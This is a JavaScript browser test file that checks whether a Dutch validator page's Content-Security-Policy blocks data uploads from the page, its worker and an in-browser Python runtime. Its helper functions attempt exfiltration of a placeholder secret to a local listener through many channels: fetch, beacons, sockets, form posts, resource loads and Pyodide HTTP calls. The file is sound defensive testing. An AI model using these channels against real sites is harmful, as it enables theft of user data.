// Nothing leaves: uploads of every kind are planted in the page, in its worker and in Python, and a host hears nothing.
import { address, visit } from "./browser.mjs";
import { bundle } from "./controle.mjs";
import { listener } from "./listener.mjs";
import { plain } from "./server.mjs";

const READY = 120_000;
const PATIENCE = 1500;
const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/g;
const LOADS = ["img", "script", "iframe", "style"];
const WAYS = {
  page: ["fetch", "XMLHttpRequest", "sendBeacon", "WebSocket", "EventSource", "form", ...LOADS],
  worker: ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import"],
  Python: ["js.fetch", "js.XMLHttpRequest", "pyodide.http", "open_url"],
};

export default async function uploads(world, tally) {
  const host = await listener();
  try {
    await open(world, host, tally);
    await closed(world, host, tally);
  } finally {
    await host.close();
  }
}

/** The same plants in the same page without its policy: of a way that reaches nobody, silence would mean nothing. */
async function open(world, host, tally) {
  const free = await plain(world.site, "/", (html) => html.replace(POLICY, ""));
  const visited = await visit(world);
  await everywhere({ ...world, root: free.root }, visited, async (where, how, name, way) => {
    where.evaluate(how, [way, `${host.root}/open-${name}-${way}`, PATIENCE]).catch(() => {}); // may end with the page
    tally.check(await host.hears(`open-${name}-${way}`), `${way} in the ${name}`, "without a policy the host hears it");
  });
  await visited.close();
  free.close();
}

async function closed(world, host, tally) {
  const visited = await visit(world);
  host.forget();
  await everywhere(world, visited, async (where, how, name, way) => {
    const said = await where.evaluate(how, [way, `${host.root}/${name}-${way}`, PATIENCE]);
    tally.check(!host.heard(`${name}-${way}`), `${way} in the ${name}`, "an upload is blocked");
    tally.check(said.startsWith("violation of "), `${way} in the ${name}`, "it is the policy that blocks it", said);
  });
  const asked = host.all();
  tally.check(!asked.length, visited.page.url(), "nothing at all was sent", asked.join(" "));
  await visited.close();
}

/** Let every way be tried where it can be: in the page with a validator that is ready, in its worker, and in Python. */
async function everywhere(world, { page, context }, attempt) {
  await page.goto(address(world, "nl", "controle/"));
  await page.locator(".mvi-status", { hasText: "klaar" }).waitFor({ timeout: READY });
  const worker = page.workers().find((each) => each.url().startsWith("blob:")); // the other one is for search
  await worker.evaluate(startPython, `${await bundle(context, page.url())}runtime/`);
  const places = { page: [page, plant], worker: [worker, plant], Python: [worker, plantPython] };
  for (const [name, [where, how]] of Object.entries(places)) {
    for (const way of WAYS[name]) await attempt(where, how, name, way);
  }
}

/** Runs in the browser: try to send one secret, and tell what the browser said of it. */
async function plant([way, there, patience]) {
  const secret = "inhoud van een bestand";
  const here = globalThis.document;
  const add = (name, given) => here.body.append(Object.assign(here.createElement(name), given));
  const socket = (kind, to) => new Promise((done) => Object.assign(new kind(to), { onopen: done, onerror: done }));
  const ways = {
    fetch: () => fetch(there, { method: "POST", mode: "no-cors", body: secret }),
    XMLHttpRequest: () =>
      new Promise((done, failed) => {
        const request = Object.assign(new XMLHttpRequest(), { onload: done, onerror: () => failed(new Error("error")) });
        request.open("POST", there);
        request.send(secret);
      }),
    sendBeacon: () => navigator.sendBeacon(there, secret),
    WebSocket: () => socket(WebSocket, there.replace("http", "ws")),
    EventSource: () => socket(EventSource, there),
    form: () => {
      add("iframe", { name: "away" });
      add("form", { action: there, method: "post", target: "away", id: "planted" });
      here.querySelector("#planted").submit();
    },
    img: () => add("img", { src: there }),
    script: () => add("script", { src: there }),
    iframe: () => add("iframe", { src: there }),
    style: () => add("link", { rel: "stylesheet", href: there }),
    import: () => import(there),
  };
  const violated = new Promise((done) =>
    addEventListener("securitypolicyviolation", (event) => done(`violation of ${event.effectiveDirective}`), { once: true }),
  );
  const tried = Promise.resolve()
    .then(ways[way])
    .then(() => new Promise(() => {}))
    .catch((error) => violated.then((said) => `${said}; ${error}`));
  return Promise.race([violated, tried, new Promise((done) => setTimeout(done, patience, "nothing"))]);
}

/** Runs in the worker: a second Python beside that of the validator, with the same runtime and packages. */
async function startPython(runtime) {
  const { loadPyodide } = await import(`${runtime}pyodide.mjs`);
  const packages = fetch(`${runtime}packages.tar.zst`).then((answer) => answer.arrayBuffer());
  globalThis.planted = await loadPyodide({ indexURL: runtime });
  globalThis.planted.unpackArchive(await packages, "zstdtar", { extractDir: "/lib/python3.14/site-packages" });
}

/** Runs in the worker: let Python try to send, and tell what the browser said of it. */
async function plantPython([way, there, patience]) {
  const ways = {
    "js.fetch": `import js\nawait js.fetch("${there}")`,
    "js.XMLHttpRequest": `import js\nr = js.XMLHttpRequest.new()\nr.open("POST", "${there}", False)\nr.send("inhoud")`,
    "pyodide.http": `from pyodide.http import pyfetch\nawait pyfetch("${there}", method="POST", body="inhoud")`,
    open_url: `from pyodide.http import open_url\nopen_url("${there}")`,
  };
  const violated = new Promise((done) =>
    addEventListener("securitypolicyviolation", (event) => done(`violation of ${event.effectiveDirective}`), { once: true }),
  );
  const said = await globalThis.planted.runPythonAsync(ways[way]).then(() => "sent", (error) => `error: ${error}`);
  return Promise.race([violated, new Promise((done) => setTimeout(done, patience, said))]);
}
